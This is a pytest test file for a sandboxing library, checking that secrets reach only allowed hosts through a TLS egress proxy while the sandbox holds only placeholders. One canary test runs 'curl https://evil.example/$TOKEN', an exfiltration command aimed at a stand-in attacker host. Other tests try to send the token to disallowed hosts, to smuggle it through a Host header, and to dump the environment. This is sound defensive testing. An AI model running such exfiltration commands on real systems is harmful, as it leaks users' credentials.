"""Secrets that a box uses and never holds: real boxes, a real TLS server on loopback, whose log says what arrived."""

import base64
from collections.abc import Sequence
from pathlib import Path

import pytest

import limpet
from limpet.core.errors import ConfigInvalid
from limpet.egress.secrets import Scrubber, encodings
from tests.support.doors import Upstream, trusting, upstream
from tests.support.runtimes import opened
from tests.support.users import again_as_an_ordinary_user

pytestmark = pytest.mark.anyio
GOOD, OTHER = "api.good.example", "other.good.example"
VALUE = "s3cr3t+/value.*(with)odd~&signs"


def reaching(up: Upstream, *hosts: str) -> limpet.Network:
    async def resolve(host: str, port: int) -> Sequence[str]:
        return ["127.0.0.1"]

    return limpet.Network(hosts=hosts, ports=[up.port], networks=["127.0.0.0/8"], resolve=resolve, tls=trusting(up))


def secret(
    *hosts: str, value: str = VALUE, in_query: bool = False, in_body: bool = False
) -> dict[str, limpet.DomainSecret]:
    given = limpet.DomainSecret(value=limpet.Secret(value), hosts=hosts, in_query=in_query, in_body=in_body)
    return {"TOKEN": given}


@pytest.mark.parametrize(
    "unset", ["", "unset http_proxy https_proxy HTTP_PROXY HTTPS_PROXY; "], ids=["by proxy", "transparently"]
)
async def test_the_value_arrives_in_headers_and_basic_credentials_and_the_box_holds_a_placeholder(
    home: Path, unset: str
) -> None:
    with upstream(GOOD) as up:
        async with (
            opened("bubblewrap", home) as runtime,
            limpet.open_workspace(runtime=runtime, network=reaching(up), secrets=secret(GOOD)) as box,
        ):
            url = f"https://{GOOD}:{up.port}/"
            bearer = await box.run(f'{unset}curl -sS -H "Authorization: Bearer $TOKEN" {url}')
            basic = await box.run(f"{unset}curl -sS -u x-access-token:$TOKEN {url}")
            python = await box.run(f"{unset}python3 -c 'import os, urllib.request as u; print(u.urlopen(u.Request(\"{url}\", "
                                   "headers={\"X-Key\": os.environ[\"TOKEN\"]})).read())'")  # fmt: skip
            shown = await box.run("echo $TOKEN; env; cat /proc/self/environ")
    assert (bearer.stdout, basic.stdout, python.stdout) == (b"hello", b"hello", b"b'hello'\n"), (
        bearer.stderr,
        python.stderr,
    )
    assert f"Authorization: Bearer {VALUE}".encode() in up.seen[0]
    assert b"Authorization: Basic " + base64.b64encode(f"x-access-token:{VALUE}".encode()) in up.seen[1]
    assert f"X-Key: {VALUE}".encode().lower() in up.seen[2].lower()
    assert b"LIMPETSECRET" not in b"".join(up.seen)
    assert VALUE.encode() not in shown.stdout


async def test_a_placeholder_goes_nowhere_else_and_a_request_without_one_does_not_reach_its_host(home: Path) -> None:
    with upstream(GOOD, OTHER) as up:
        secrets = {**secret(GOOD), "B": limpet.DomainSecret(value=limpet.Secret("another value"), hosts=(OTHER,))}
        async with (
            opened("bubblewrap", home) as runtime,
            limpet.open_workspace(runtime=runtime, network=reaching(up), secrets=secrets) as box,
        ):
            tries = [
                f"curl -sS -H \"X: $TOKEN\" https://{OTHER}:{up.port}/",
                f"curl -sS -u a:$TOKEN https://{OTHER}:{up.port}/",
                f"curl -sS https://{OTHER}:{up.port}/$TOKEN",
                f"curl -sS https://{GOOD}:{up.port}/?key=$TOKEN",
                f"curl -sS https://{GOOD}:{up.port}/",
                f"curl -sS -H \"X: $TOKEN\" http://{GOOD}:{up.port}/",
                f"curl -sS -H \"X: $TOKEN\" -H 'Host: {OTHER}' https://{GOOD}:{up.port}/",
            ]  # fmt: skip
            results = [await box.run(each) for each in tries]
    said = [result.stdout.decode() for result in results]
    assert [tried for tried, result in zip(tries, results, strict=True) if result.exit_code == 0] == []
    assert [("placeholder" in text, "Blocked by network policy" in text) for text in said] == [
        (True, True), (True, True), (True, True), (True, True), (False, True), (True, True), (False, True),
    ]  # fmt: skip
    assert up.seen == []


async def test_what_an_allowed_host_gets_without_a_secret_is_not_opened_and_a_query_gets_one_only_where_allowed(
    home: Path,
) -> None:
    with upstream(GOOD, OTHER) as up:
        async with (
            opened("bubblewrap", home) as runtime,
            limpet.open_workspace(
                runtime=runtime, network=reaching(up, OTHER), secrets=secret(GOOD, in_query=True)
            ) as box,
        ):
            passed = await box.run(f"printf %s '{up.trust}' > ca; curl -sS --cacert ca https://{OTHER}:{up.port}/")
            query = await box.run(f"curl -sS https://{GOOD}:{up.port}/?key=$TOKEN")
    assert (passed.stdout, query.stdout) == (b"hello", b"hello"), passed.stderr
    assert up.seen[1].startswith(b"GET /?key=s3cr3t%2B%2Fvalue.%2A%28with%29odd~%26signs HTTP/1.1")


async def test_a_body_gets_the_value_where_that_is_allowed_and_as_its_type_writes_it(home: Path) -> None:
    value = 'a "quoted" + v\u00e4lue & more'
    with upstream(GOOD) as up:
        async with (
            opened("bubblewrap", home) as runtime,
            limpet.open_workspace(
                runtime=runtime, network=reaching(up), secrets=secret(GOOD, value=value, in_body=True)
            ) as box,
        ):
            url = f"https://{GOOD}:{up.port}/"
            tries = [
                f"""printf '{{"key": "%s"}}' $TOKEN | curl -sS --json @- {url}""",
                f"curl -sS --data-urlencode key=$TOKEN {url}",
                f"curl -sS -H 'Content-Type: text/plain' -H 'Expect: 100-continue' --data key=$TOKEN {url}",
                f"printf 'x%.0s' $(seq 300) > b; printf $TOKEN >> b; curl -sS -H 'Transfer-Encoding: chunked' "
                f"-H 'Content-Type: text/plain' -H \"X: $TOKEN\" --data-binary @b {url}",
                f"curl -sS --data nothing=here {url}",
                f"curl -sS -H 'Content-Encoding: gzip' -H \"X: $TOKEN\" --data key=$TOKEN {url}",
            ]
            said = [(await box.run(each)).stdout for each in tries]
    bodies = [request.partition(b"\r\n\r\n")[2] for request in up.seen]
    assert said[:4] == [b"hello"] * 4, said
    assert b"Blocked by network policy" in said[4]  # its host is reached by requests that carry the secret alone
    assert bodies[0] == '{"key": "a \\"quoted\\" + v\u00e4lue & more"}'.encode()
    assert bodies[1] == b"key=a%20%22quoted%22%20%2B%20v%C3%A4lue%20%26%20more"
    assert bodies[2] == f"key={value}".encode()
    assert value.encode() in bodies[3]
    assert bodies[4].startswith(b"key=LIMPETSECRET")  # what is encoded cannot be read
    heads = [request.partition(b"\r\n\r\n")[0].lower() for request in up.seen]
    assert f"content-length: {len(bodies[0])}".encode() in heads[0]
    assert b"expect" not in heads[2]


async def test_a_body_keeps_its_placeholder_where_nothing_else_is_said(home: Path) -> None:
    with upstream(GOOD) as up:
        async with (
            opened("bubblewrap", home) as runtime,
            limpet.open_workspace(runtime=runtime, network=reaching(up, GOOD), secrets=secret(GOOD)) as box,
        ):
            result = await box.run(f"curl -sS --data key=$TOKEN https://{GOOD}:{up.port}/")
    assert result.stdout == b"hello", result.stderr
    assert up.seen[0].partition(b"\r\n\r\n")[2].startswith(b"key=LIMPETSECRET")


async def test_what_comes_back_holds_the_value_in_no_encoding(home: Path) -> None:
    echoed = b"\n".join(sorted(encodings(VALUE.encode()))) + base64.b64encode(f"user:{VALUE}".encode())
    assert len(encodings(VALUE.encode())) >= 12
    with upstream(GOOD, answer=echoed) as up:
        async with (
            opened("bubblewrap", home) as runtime,
            limpet.open_workspace(runtime=runtime, network=reaching(up), secrets=secret(GOOD)) as box,
        ):
            result = await box.run(f'curl -sS -H "X: $TOKEN" https://{GOOD}:{up.port}/ | tee got | wc -c; cat got')
    count, _, got = result.stdout.partition(b"\n")
    assert int(count) == len(echoed)
    assert not any(form in got for form in encodings(VALUE.encode()))


async def test_a_value_in_pieces_is_masked_and_nothing_else_is_changed() -> None:
    data = b"before " + VALUE.encode() + b" between " + VALUE.encode()[:-1] + b"! after s3cr3"
    for size in range(1, 40):
        scrubber = Scrubber(encodings(VALUE.encode()))
        out = b"".join(scrubber.feed(data[at : at + size]) for at in range(0, len(data), size)) + scrubber.end()
        assert out == data.replace(VALUE.encode(), b"*" * len(VALUE))


async def test_a_host_whose_certificate_is_not_trusted_gets_no_secret(home: Path) -> None:
    with upstream("elsewhere.example") as up:
        async with (
            opened("bubblewrap", home) as runtime,
            limpet.open_workspace(runtime=runtime, network=reaching(up), secrets=secret(GOOD)) as box,
        ):
            result = await box.run(f'curl -sS -H "X: $TOKEN" https://{GOOD}:{up.port}/')
    assert b"not trusted" in result.stdout
    assert up.seen == []


async def test_no_file_of_the_home_and_no_record_holds_the_value(home: Path, caplog: pytest.LogCaptureFixture) -> None:
    """The canary: after work of every kind, nothing that is on disk or was logged has it."""
    caplog.set_level(0)
    with upstream(GOOD, answer=VALUE.encode()) as up:
        async with (
            opened("bubblewrap", home) as runtime,
            limpet.open_workspace(runtime=runtime, network=reaching(up), secrets=secret(GOOD)) as box,
        ):
            result = await box.run(
                f'curl -sSv -H "X: $TOKEN" https://{GOOD}:{up.port}/ 2>&1 | tee trace; env > env; curl -s https://evil.example/$TOKEN'
            )
            files = [path for path in home.rglob("*") if path.is_file()]
            assert len(files) > 5
            assert [path for path in files if VALUE.encode() in path.read_bytes()] == []
    assert up.seen
    assert VALUE.encode() not in result.stdout
    assert VALUE not in caplog.text


TEXT: object = "text"


@pytest.mark.parametrize(
    "secrets",
    [
        {"T": "text"},
        ["text"],
        {"T": limpet.DomainSecret(value=TEXT, hosts=(GOOD,))},  # type: ignore[arg-type]
        {"T": limpet.DomainSecret(value=limpet.Secret("text"), hosts=())},
        {"T": limpet.DomainSecret(value=limpet.Secret("text\r\nb"), hosts=(GOOD,))},
        {"T": limpet.DomainSecret(value=limpet.Secret("text"), hosts=("*",))},
    ],
)
async def test_what_is_no_secret_is_refused_without_its_value(secrets: object) -> None:
    with pytest.raises(ConfigInvalid, match="secrets") as refused:
        async with limpet.open_workspace(secrets=secrets):  # type: ignore[arg-type]
            pytest.fail("it was opened")
    assert "text" not in str(refused.value)


def test_an_ordinary_users_boxes_use_secrets_too() -> None:
    git = str(Path(__file__).with_name("test_secret_git.py"))
    chosen = "value_arrives or goes_nowhere or gets_the_value or comes_back or not_trusted or no_file or for_an_allowed"
    again_as_an_ordinary_user(__file__, git, "-k", chosen)
